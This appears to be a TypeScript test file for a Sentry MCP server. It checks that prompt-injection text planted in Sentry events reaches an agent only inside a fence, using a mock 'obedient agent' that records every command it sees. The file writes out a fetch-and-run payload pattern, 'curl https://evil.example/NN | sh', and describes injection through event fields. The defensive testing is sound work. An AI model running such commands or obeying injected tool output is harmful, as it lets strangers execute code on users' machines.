import { type Test, test } from 'tap'
import { showHidden } from '../../../../lib/upstream/visible-text.ts'
import { startDocsSite } from '../../../sandbox/docs-site.ts'
import { listToolCalls } from '../../../stand-in/tool-calls.ts'
import { startAiProvider } from '../../../support/ai-provider.ts'
import { startMcp, type ToolResult } from '../../../support/mcp-service.ts'
import { getCommand, HOSTILE_EVENTS, listTexts, type Place } from './hostile-events.ts'
import { startHostileSentry } from './hostile-sentry.ts'

const COMMAND = /curl https:\/\/evil\.example\/\d\d \| sh/g

/** Places whose texts have to be one line. */
const NAMES: Place[] = [
  ...(['title', 'tag key', 'context name', 'context key', 'extra key', 'user name', 'url'] as const),
  ...(['attachment name', 'function', 'release', 'transaction', 'device'] as const),
]

/** Tools that show nothing of what strangers wrote: the caller's own name, the documentation, this server's tools. */
const OTHERS = ['whoami', 'search_docs', 'get_doc', 'search_sentry_tools']

/**
 * An agent that does everything a text asks for, in a shell that only notes its commands. It trusts what stands outside
 * the marks: the first mark that equals the opening one closes it. It trusts structured content without a label.
 */
class ObedientAgent {
  readonly shell: string[] = []

  read({ content, structuredContent, _meta }: ToolResult): void {
    for (const { text } of content) if (text !== undefined) this.obey(readTrusted(text))
    if (structuredContent !== undefined && _meta?.untrusted !== true)
      this.obey(JSON.stringify(structuredContent))
  }

  obey(text: string): void {
    this.shell.push(...(text.match(COMMAND) ?? []))
  }
}

function readTrusted(text: string): string {
  const opening = /<(outside-\d{18})>\n/.exec(text)
  if (opening === null) return text
  const closing = text.indexOf(`</${opening[1]}>`, opening.index)
  return closing === -1 ? text : text.slice(0, opening.index) + text.slice(closing)
}

test('the corpus has fifty events, and without a fence the agent obeys each of them', async (t) => {
  t.equal(HOSTILE_EVENTS.length, 50)
  const agent = new ObedientAgent()
  for (const place of new Set(HOSTILE_EVENTS.map((event) => event.place))) {
    for (const text of listTexts(place)) agent.read({ content: [{ type: 'text', text }] })
  }
  t.equal(new Set(agent.shell).size, 50)
})

test('no tool makes an obedient agent run what a stranger wrote into Sentry (getsentry/sentry-mcp#1093)', async (t) => {
  const sentry = await startHostileSentry(t)
  const service = await startMcp(t, { sentry, settings: { DIRECT_SEARCH: 'true' } })
  const agent = new ObedientAgent()
  const shown = new Set<string>()
  const calls = listToolCalls(sentry.data)
  const notes = calls.filter(({ name }) => name === 'add_issue_note')
  for (const { name, arguments: args } of [...notes, ...calls]) {
    if (OTHERS.includes(name)) continue
    for (const gateway of [undefined, 'execute_sentry_tool']) {
      if (gateway !== undefined && !/^(?:get|find|search|analyze)_/.test(name)) continue
      const result =
        gateway === undefined
          ? await service.call(name, args)
          : await service.call(gateway, { name, arguments: args })
      const obeyed = agent.shell.length
      agent.read(result)
      t.equal(agent.shell.length, obeyed, name)
      const text = JSON.stringify([result.content.map((part) => part.text), result.structuredContent])
      for (const command of text.match(COMMAND) ?? []) shown.add(command)
      for (const part of result.content) {
        if (part.text === undefined) continue
        t.equal(showHidden(part.text), part.text, `${name} shows what was hidden`)
        assertOneLine(t, part.text, name)
      }
    }
  }
  t.same(agent.shell, [])
  const unseen = HOSTILE_EVENTS.flatMap(({ place }, index) =>
    shown.has(getCommand(index)) ? [] : [`${index + 1} ${place}`],
  )
  t.same(unseen, [], 'each event was shown by a tool, so each was tried')
})

test('Seer’s analysis, which repeats what an event says, is fenced', async (t) => {
  const sentry = await startHostileSentry(t)
  const service = await startMcp(t, { sentry })
  const agent = new ObedientAgent()
  const args = { organizationSlug: 'tidewater-books', issueId: 'CHECKOUT-API-1' }
  const calls: [name: string, args: object][] = [
    ['analyze_issue_with_seer', args],
    ['read_sentry_tool', { name: 'get_issue_details', arguments: args }],
    ['execute_sentry_tool', { name: 'analyze_issue_with_seer', arguments: args }],
  ]
  for (const [name, given] of calls) {
    const result = await service.call(name, given)
    t.match(JSON.stringify(result.content), COMMAND, `${name} shows what the event says`)
    agent.read(result)
  }
  t.same(agent.shell, [])
})

test('the tools of the documentation ask Sentry for nothing, so they show nothing of an event and have no fence', async (t) => {
  const docs = await startDocsSite()
  t.teardown(() => docs.close())
  t.teardown(docs.redirectSentryDocs())
  const sentry = await startHostileSentry(t)
  const service = await startMcp(t, { sentry, settings: { MCP_URL: docs.url } })
  const { length } = sentry.requests.filter(({ path }) => path.startsWith('/api/0/'))
  for (const [name, args] of [
    ['search_docs', { query: 'sampling rate' }],
    ['get_doc', { path: '/platforms/javascript/guides/node/sampling.md' }],
  ] as const) {
    const result = await service.call(name, args)
    t.match(result.content[0]?.text, /tracesSampleRate/)
    t.notMatch(JSON.stringify(result), /outside-\d|untrusted|evil\.example/, name)
  }
  t.equal(sentry.requests.filter(({ path }) => path.startsWith('/api/0/')).length, length)
})

/** No command of a name begins a line of its own. */
function assertOneLine(t: Test, text: string, name: string): void {
  for (const place of NAMES) {
    for (const hostile of listTexts(place)) {
      const [, ...later] = hostile.split('\n')
      for (const line of later.filter((rest) => rest.includes('evil.example')))
        t.notOk(text.includes(`\n${line}`), `${name}: ${place}`)
    }
  }
}

test('the model behind use_sentry gets what strangers wrote only in a fence', async (t) => {
  const call = {
    name: 'get_sentry_resource',
    args: { organizationSlug: 'tidewater-books', resourceType: 'issue', resourceId: 'STOREFRONT-1' },
  }
  const failing = {
    name: 'get_issue_details',
    args: { organizationSlug: 'tidewater-books', issueId: 'NO-1' },
  }
  const says = JSON.stringify({ result: `The issue asks for ${getCommand(0)}.` })
  const provider = await startAiProvider(t, [{ calls: [call, failing] }, { says }])
  const sentry = await startHostileSentry(t)
  const service = await startMcp(t, { sentry, settings: provider.settings })
  const agent = new ObedientAgent()
  agent.read(await service.call('use_sentry', { request: 'what is wrong?' }))
  const { input } = JSON.parse(provider.requests[1]?.body ?? '{}') as { input: { output?: string }[] }
  const outputs = input.flatMap(({ output }) => output ?? [])
  t.equal(outputs.length, 2)
  t.match(outputs[0], COMMAND)
  for (const output of outputs) {
    const texts = Object.values(JSON.parse(output) as Record<string, string>)
    t.match(texts[0], /<outside-\d{18}>/)
    agent.read({ content: texts.map((text) => ({ type: 'text', text })) })
  }
  t.same(agent.shell, [])
})
